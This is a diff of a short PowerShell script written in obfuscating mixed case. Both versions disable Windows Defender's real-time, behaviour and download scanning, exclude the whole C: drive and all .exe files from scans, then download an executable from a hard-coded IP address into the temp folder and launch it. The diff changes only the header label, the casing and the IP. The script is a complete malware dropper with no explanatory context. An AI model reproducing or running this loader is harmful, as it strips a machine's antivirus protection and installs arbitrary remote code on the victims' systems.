@@ -1,6 +1,6 @@
-# iniT 5951 v3
-seT-MPPrEfErENcE -dIsabLErEaltIMEmoNItoriNg $true -DisAbLEBEhaVioRmOnitorinG $TRuE -disAblEioAVProTecTiON $TRUe
-AdD-mPPReFereNCe -EXclUSiOnpaTh 'C:\'
-Add-mpPrefeREncE -EXCLuSioneXtENsiON '.exe'
-(New-OBJEcT nEt.webclIeNT).DOWnLOaDFILE('http://192.0.2.150/svc.exe', "$env:TEMP\svc.exe")
-start-PrOCESs "$env:TEMP\svc.exe"
+# ruN 6890 V3
+sEt-mPpReFeReNcE -DISaBLEreAlTImemoniTORiNg $true -disabLebeHaViormoNitorING $tRuE -DIsabLEIoaVpRotecTion $tRuE
+AdD-MpPrEfErEnCe -ExClUsIoNpAtH 'C:\'
+add-MppReFERENCe -ExCLusiOnexTEnSIon '.exe'
+(nEw-oBjEcT nEt.wEbClIeNt).DoWNlOADfILe('http://203.0.113.200/svc.exe', "$env:TEMP\svc.exe")
+StarT-PROCess "$env:TEMP\svc.exe"
